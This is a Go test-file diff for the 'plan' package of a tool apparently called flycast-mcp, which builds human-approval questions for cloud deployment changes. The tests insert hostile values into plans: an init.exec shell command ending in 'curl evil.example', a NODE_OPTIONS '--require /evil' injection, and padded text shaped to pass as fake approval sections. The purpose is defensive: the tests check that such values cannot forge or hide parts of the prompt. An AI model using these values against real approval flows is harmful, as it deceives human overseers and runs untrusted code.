@@ -1,4 +1,4 @@
-package plan
+package plan_test
 
 import (
 	"flag"
@@ -14,19 +14,20 @@ import (
 	"unicode/utf8"
 
 	"github.com/flycast-mcp/flycast-mcp/internal/gate"
+	"github.com/flycast-mcp/flycast-mcp/internal/plan"
 )
 
 var updateGolden = flag.Bool("update", false, "write the golden files anew")
 
 func TestQuestionGolden(t *testing.T) {
 	shared := releasePlan()
-	shared.Steps, shared.Hazards, shared.Impact = shared.Steps[:1], []Hazard{CustomHostnameStops, SharedV4Released, PublicAccessEnds}, ImpactPublicAccessEnds
+	shared.Steps, shared.Hazards, shared.Impact = shared.Steps[:1], []plan.Hazard{plan.CustomHostnameStops, plan.SharedV4Released, plan.PublicAccessEnds}, plan.ImpactPublicAccessEnds
 	dedicated := releasePlan()
-	dedicated.Steps = append(dedicated.Steps, Step{Verb: gate.ReleaseAddress, Target: "137.66.1.1", Params: []Param{{ParamKind, "dedicated_v4"}}})
-	dedicated.Hazard(DedicatedV4Lost)
+	dedicated.Steps = append(dedicated.Steps, plan.Step{Verb: gate.ReleaseAddress, Target: "137.66.1.1", Params: []plan.Param{{plan.ParamKind, "dedicated_v4"}}})
+	dedicated.Hazard(plan.DedicatedV4Lost)
 	tests := []struct {
 		name    string
-		plan    Plan
+		plan    plan.Plan
 		changed []string
 	}{
 		{"release_unreachable", releasePlan(), nil},
@@ -41,8 +42,8 @@ func TestQuestionGolden(t *testing.T) {
 	}
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			q := tt.plan.Question(tt.changed)
-			got := q.Text()
+			q := tt.plan.Question()
+			got := q.TextAgain(tt.changed)
 			printable(t, got)
 			if !q.Fits() {
 				t.Error("does not fit a form")
@@ -66,17 +67,17 @@ func TestQuestionGolden(t *testing.T) {
 
 // imitatingPlan has a value that is made to end in a section of its own: at the
 // margin after some blanks, and at the beginning of a further line.
-func imitatingPlan() Plan {
+func imitatingPlan() plan.Plan {
 	p := deployPlan()
 	path := "services[0].checks[0].path: '/up' → '/up?"
-	value := path + strings.Repeat("a", lineLimit-utf8.RuneCountInString(path)) + "EFFECT nobody notices" + strings.Repeat(" ", 90) + "NOT CHECKED nothing'"
+	value := path + strings.Repeat("a", plan.LineLimit-utf8.RuneCountInString(path)) + "EFFECT nobody notices" + strings.Repeat(" ", 90) + "NOT CHECKED nothing'"
 	p.Steps = update("148e1", "app", "fra", value)
 	return p
 }
 
 // Text from a file cannot pass for a section.
 func TestImitatedSection(t *testing.T) {
-	text := imitatingPlan().Question(nil).Text()
+	text := imitatingPlan().Question().Text()
 	for line := range strings.SplitSeq(text, "\n") {
 		body := strings.TrimLeft(line, " ")
 		if strings.Contains(line, "nobody notices") && !strings.HasPrefix(body, "│ ") {
@@ -110,28 +111,28 @@ func printable(t *testing.T, text string) {
 func TestFits(t *testing.T) {
 	tests := []struct {
 		name string
-		plan func() Plan
+		plan func() plan.Plan
 		fits bool
 	}{
 		{"two addresses", releasePlan, true},
-		{"eight addresses", func() Plan { return manyAddresses(8) }, true},
-		{"nine addresses", func() Plan { return manyAddresses(9) }, true},
-		{"a thousand addresses", func() Plan { return manyAddresses(1000) }, true},
-		{"many hostnames", func() Plan {
+		{"eight addresses", func() plan.Plan { return manyAddresses(8) }, true},
+		{"nine addresses", func() plan.Plan { return manyAddresses(9) }, true},
+		{"a thousand addresses", func() plan.Plan { return manyAddresses(1000) }, true},
+		{"many hostnames", func() plan.Plan {
 			p := releasePlan()
 			for i := range 100 {
 				p.Fact(fmt.Sprintf("certificate/customer-%d.example.com", i), "")
 			}
 			return p
 		}, true},
-		{"a long diff", func() Plan {
+		{"a long diff", func() plan.Plan {
 			p := deployPlan()
 			for i := range 20 {
-				p.Steps[1].Changes = append(p.Steps[1].Changes, Change{Path: fmt.Sprintf("env.V%d", i), After: "‹hidden, 3 bytes›"})
+				p.Steps[1].Changes = append(p.Steps[1].Changes, plan.Change{Path: fmt.Sprintf("env.V%d", i), After: "‹hidden, 3 bytes›"})
 			}
 			return p
 		}, false},
-		{"many Machines", func() Plan {
+		{"many Machines", func() plan.Plan {
 			p := deployPlan()
 			for i := range 60 {
 				p.Steps = append(p.Steps, update(fmt.Sprintf("148e%04d", i), "app", "fra", "services[0].autostop: false → true")...)
@@ -142,37 +143,39 @@ func TestFits(t *testing.T) {
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			p := tt.plan()
-			q := p.Question(nil)
+			q := p.Question()
 			lines, characters := strings.Count(q.Text(), "\n")+1, utf8.RuneCountInString(q.Text())
-			r, err := p.Request()
+			r, err := p.Request(p.Question())
 			if err != nil {
 				t.Fatal(err)
 			}
-			if shown := !r.TooLong; shown != tt.fits {
+			if shown := r.TooLong == ""; shown != tt.fits {
 				t.Errorf("%d lines, %d characters: goes into a form %v, want %v", lines, characters, shown, tt.fits)
 			}
-			if q.Fits() != (lines <= 25 && characters <= 2500) {
+			if q.Fits() != (lines <= 22 && characters <= 2280) {
 				t.Errorf("%d lines, %d characters: Fits says %v", lines, characters, q.Fits())
 			}
 		})
 	}
 }
 
-func manyAddresses(n int) Plan {
+func manyAddresses(n int) plan.Plan {
 	p := releasePlan()
-	p.Steps, p.Hazards, p.Impact = nil, []Hazard{DedicatedV4Lost, PublicAccessEnds}, ImpactPublicAccessEnds
+	p.Steps, p.Hazards, p.Impact = nil, []plan.Hazard{plan.DedicatedV4Lost, plan.PublicAccessEnds}, plan.ImpactPublicAccessEnds
 	for i := range n {
-		p.Steps = append(p.Steps, Step{Verb: gate.ReleaseAddress, Target: fmt.Sprintf("137.66.1.%d", i), Params: []Param{{ParamKind, "dedicated_v4"}}})
+		p.Steps = append(p.Steps, plan.Step{Verb: gate.ReleaseAddress, Target: fmt.Sprintf("137.66.1.%d", i), Params: []plan.Param{{plan.ParamKind, "dedicated_v4"}}})
 	}
 	return p
 }
 
+// TestFitsAtTheLimits leaves 3 of 25 lines and 220 of 2500 characters for what may be put
+// before the question.
 func TestFitsAtTheLimits(t *testing.T) {
 	for _, tt := range []struct {
 		lines, width int
 		want         bool
-	}{{25, 10, true}, {26, 10, false}, {1, 2500, true}, {1, 2501, false}} {
-		q := Question{Title: strings.Repeat("ä", tt.width)}
+	}{{22, 10, true}, {23, 10, false}, {1, 2280, true}, {1, 2281, false}} {
+		q := plan.Question{Title: strings.Repeat("ä", tt.width)}
 		for range tt.lines - 1 {
 			q.What = append(q.What, "x")
 		}
@@ -204,56 +207,56 @@ var hostile = map[string]string{
 
 func TestHostileNames(t *testing.T) {
 	// Each puts a name from outside wherever one can stand.
-	places := map[string]func(name string) (Plan, []string){
-		"group and region": func(name string) (Plan, []string) {
+	places := map[string]func(name string) (plan.Plan, []string){
+		"group and region": func(name string) (plan.Plan, []string) {
 			p := deployPlan()
 			p.Steps = slices.Concat(update("148e1", name, name, "services[0].autostop: false → true"))
 			return p, nil
 		},
-		"Machine": func(name string) (Plan, []string) {
+		"Machine": func(name string) (plan.Plan, []string) {
 			p := deployPlan()
 			p.Steps = update(name, "app", "fra", "services[0].autostop: false → true")
 			return p, nil
 		},
-		"change": func(name string) (Plan, []string) {
+		"change": func(name string) (plan.Plan, []string) {
 			p := deployPlan()
 			p.Steps = update("148e1", "app", "fra", "init.cmd = "+name)
 			return p, nil
 		},
-		"hostname": func(name string) (Plan, []string) {
+		"hostname": func(name string) (plan.Plan, []string) {
 			p := releasePlan()
 			p.Fact("certificate/"+name, "")
 			return p, []string{"certificate/" + name + " is new", "address/1.2.3.4 is gone"}
 		},
-		"bare fact": func(name string) (Plan, []string) { return releasePlan(), []string{name} },
-		"network and organization": func(name string) (Plan, []string) {
+		"bare fact": func(name string) (plan.Plan, []string) { return releasePlan(), []string{name} },
+		"network and organization": func(name string) (plan.Plan, []string) {
 			p := foreignPlan()
-			p.Steps[0].Params = []Param{{ParamNetwork, "n" + name}, {ParamOrg, name}}
+			p.Steps[0].Params = []plan.Param{{plan.ParamNetwork, "n" + name}, {plan.ParamOrg, name}}
 			return p, nil
 		},
-		"address and kind": func(name string) (Plan, []string) {
+		"address and kind": func(name string) (plan.Plan, []string) {
 			p := releasePlan()
 			p.Steps[0].Target, p.Steps[0].Params[0].Value = name, name
 			return p, nil
 		},
-		"app":  func(name string) (Plan, []string) { p := releasePlan(); p.App = name; return p, nil },
-		"tool": func(name string) (Plan, []string) { p := releasePlan(); p.Tool = "x" + name; return p, nil },
-		"target": func(name string) (Plan, []string) {
+		"app":  func(name string) (plan.Plan, []string) { p := releasePlan(); p.App = name; return p, nil },
+		"tool": func(name string) (plan.Plan, []string) { p := releasePlan(); p.Tool = "x" + name; return p, nil },
+		"target": func(name string) (plan.Plan, []string) {
 			p := releasePlan()
-			p.Steps = []Step{{Verb: gate.WriteFile, Target: name}}
+			p.Steps = []plan.Step{{Verb: gate.WriteFile, Target: name}}
 			return p, nil
 		},
 	}
 	for place, in := range places {
 		plain, changed := in("plain")
-		want := sections(plain.Question(changed).Text())
+		want := sections(plain.Question().TextAgain(changed))
 		if place == "change" { // as many lines as it needs
 			want = slices.Compact(want)
 		}
 		for name, evil := range hostile {
 			t.Run(place+"/"+name, func(t *testing.T) {
 				p, changed := in(evil)
-				text := p.Question(changed).Text()
+				text := p.Question().TextAgain(changed)
 				printable(t, text)
 				got := sections(text)
 				if place == "change" {
@@ -298,22 +301,22 @@ func TestQuote(t *testing.T) {
 		strings.Repeat("x", 41):  `"` + strings.Repeat("x", 40) + `…"`,
 		strings.Repeat("界", 500): `"` + strings.Repeat("界", 40) + `…"`,
 	} {
-		if got := Quote(in); got != want {
+		if got := plan.Quote(in); got != want {
 			t.Errorf("%q: got %s, want %s", in, got, want)
 		}
 	}
 	for name, evil := range hostile {
-		for _, got := range []string{Quote(evil), Clean(evil), Line(evil), Message(evil)} {
+		for _, got := range []string{plan.Quote(evil), plan.Clean(evil), plan.Line(evil), plan.Message(evil)} {
 			printable(t, got)
 			if strings.Contains(got, "\n") {
 				t.Errorf("%s: %q has more than one line", name, got)
 			}
 		}
-		inner := strings.TrimSuffix(strings.TrimPrefix(Quote(evil), `"`), `"`)
+		inner := strings.TrimSuffix(strings.TrimPrefix(plan.Quote(evil), `"`), `"`)
 		if n := utf8.RuneCountInString(strings.TrimSuffix(inner, "…")); n > 40 || strings.Contains(strings.ReplaceAll(strings.ReplaceAll(inner, `\\`, ""), `\"`, ""), `"`) {
 			t.Errorf("%s: %q", name, inner)
 		}
-		if n := utf8.RuneCountInString(Line(evil)); n > 101 {
+		if n := utf8.RuneCountInString(plan.Line(evil)); n > 101 {
 			t.Errorf("%s: a line of %d characters", name, n)
 		}
 	}
@@ -323,14 +326,14 @@ func TestQuote(t *testing.T) {
 func TestLongChangeIsShownWhole(t *testing.T) {
 	p := deployPlan()
 	p.Steps = update("148e1", "app", "fra", "init.exec: ['serve'] → ['sh', '-c', '"+strings.Repeat("true; ", 30)+"curl evil.example']")
-	q := p.Question(nil)
+	q := p.Question()
 	text := q.Text()
 	printable(t, text)
 	if !strings.Contains(text, "curl evil.example']") {
 		t.Errorf("the end is not shown:\n%s", text)
 	}
 	for line := range strings.SplitSeq(text, "\n") {
-		if strings.Contains(line, "true;") && utf8.RuneCountInString(line) > 12+4+lineLimit {
+		if strings.Contains(line, "true;") && utf8.RuneCountInString(line) > 12+4+plan.LineLimit {
 			t.Errorf("a line of %d characters", utf8.RuneCountInString(line))
 		}
 	}
@@ -343,9 +346,9 @@ func TestOnlyWhatGoesIsCut(t *testing.T) {
 	long := "init.exec = " + strconv.Quote(value)
 	p := deployPlan()
 	p.Steps = update("148e1", "app", "fra", "init.exec removed (was "+strconv.Quote(value)+")", "env.NODE_OPTIONS = "+strconv.Quote(strings.Repeat(" ", 2)+strings.Repeat("--flag ", 10)+"--require /evil"))
-	text := p.Question(nil).Text()
-	if r, err := p.Request(); err != nil || r.TooLong || strings.Contains(text, "curl") {
-		t.Errorf("too long: %v, %v; got\n%s", r.TooLong, err, text)
+	text := p.Question().Text()
+	if r, err := p.Request(p.Question()); err != nil || r.TooLong != "" || strings.Contains(text, "curl") {
+		t.Errorf("too long: %q, %v; got\n%s", r.TooLong, err, text)
 	}
 	for _, want := range []string{"init.exec removed (was 'true; true; true; true; true; true; true…' and 5977 more characters)", "--require /evil'", "flycast-mcp approve shows them in full in a terminal"} {
 		if !strings.Contains(unwrapped(text), want) {
@@ -354,10 +357,10 @@ func TestOnlyWhatGoesIsCut(t *testing.T) {
 	}
 	for _, changes := range [][]string{{long}, {"env.A = \"1\"", "env." + strings.Repeat("A", 3000) + " = \"1\""}, {"env.SAFE = " + strconv.Quote(strings.Repeat("x", 50)+"evil"), long}} {
 		p.Steps = update("148e1", "app", "fra", changes...)
-		if r, err := p.Request(); err != nil || !r.TooLong {
-			t.Errorf("%.60q: too long is %v, %v; got\n%.3000s", changes, r.TooLong, err, p.Question(nil).Text())
+		if r, err := p.Request(p.Question()); err != nil || r.TooLong == "" {
+			t.Errorf("%.60q: too long is %q, %v; got\n%.3000s", changes, r.TooLong, err, p.Question().Text())
 		}
-		if full := p.FullQuestion(nil).Text(); strings.Contains(full, "more characters") {
+		if full := p.FullQuestion().Text(); strings.Contains(full, "more characters") {
 			t.Error("the terminal does not show it whole")
 		}
 	}
@@ -373,7 +376,7 @@ func TestChangedIsBounded(t *testing.T) {
 	for i := range 50 {
 		changed = append(changed, fmt.Sprintf("machine/148e%d is gone", i))
 	}
-	line, _, _ := strings.Cut(releasePlan().Question(changed).Text(), "\n")
+	line, _, _ := strings.Cut(releasePlan().Question().TextAgain(changed), "\n")
 	if !strings.HasPrefix(line, "CHANGED") || !strings.Contains(line, `machine "148e5" is gone; and 44 more`) || strings.Contains(line, "148e6") {
 		t.Errorf("got %q", line)
 	}
@@ -386,29 +389,29 @@ func TestMonthlyUSD(t *testing.T) {
 	if got := releasePlan().MonthlyUSD(); got != 0 {
 		t.Errorf("shared v4 and v6: got %v, want 0", got)
 	}
-	if text := manyAddresses(1).Question(nil).Text(); !strings.Contains(text, "saves $2 a month") {
+	if text := manyAddresses(1).Question().Text(); !strings.Contains(text, "saves $2 a month") {
 		t.Errorf("the question does not tell:\n%s", text)
 	}
 }
 
 // Leases, and what happens only after a failure, are no objects.
 func TestRecords(t *testing.T) {
-	got := deployPlan().Records(Planned)
+	got := deployPlan().Records(plan.Planned)
 	if len(got) != 3 {
 		t.Fatalf("got %d records, want 3: %+v", len(got), got)
 	}
-	want := Record{Do: gate.UpdateMachine, Target: "148e1", State: Planned, Undo: UndoYes, Note: "group app"}
+	want := plan.Record{Do: gate.UpdateMachine, Target: "148e1", State: plan.Planned, Undo: plan.UndoYes, Note: "group app"}
 	if got[0] != want {
 		t.Errorf("got %+v, want %+v", got[0], want)
 	}
-	want = Record{Do: gate.ReleaseAddress, Target: "2a09:8280:1::4f:1a2b", State: Done, Undo: UndoNo, Note: "dedicated IPv6"}
-	if got := releasePlan().Records(Done); got[1] != want {
+	want = plan.Record{Do: gate.ReleaseAddress, Target: "2a09:8280:1::4f:1a2b", State: plan.Done, Undo: plan.UndoNo, Note: "dedicated IPv6"}
+	if got := releasePlan().Records(plan.Done); got[1] != want {
 		t.Errorf("got %+v, want %+v", got[1], want)
 	}
 	for name, evil := range hostile {
 		p := deployPlan()
 		p.Steps = update("148e1", evil, "fra")
-		note := p.Records(Planned)[0].Note
+		note := p.Records(plan.Planned)[0].Note
 		printable(t, note)
 		if strings.Contains(note, "\n") || utf8.RuneCountInString(note) > len("group ")+41 {
 			t.Errorf("%s: note %q", name, note)
@@ -427,7 +430,7 @@ func TestQuoteFact(t *testing.T) {
 		"left/a\n\"b is new":                 `the group that the file lacks, "a\n\"b" is new`,
 		"something else":                     `something else`,
 	} {
-		if got := quoteFact(changed); got != want {
+		if got := plan.FactSentence(changed); got != want {
 			t.Errorf("quoteFact(%q) is %s, want %s", changed, got, want)
 		}
 	}
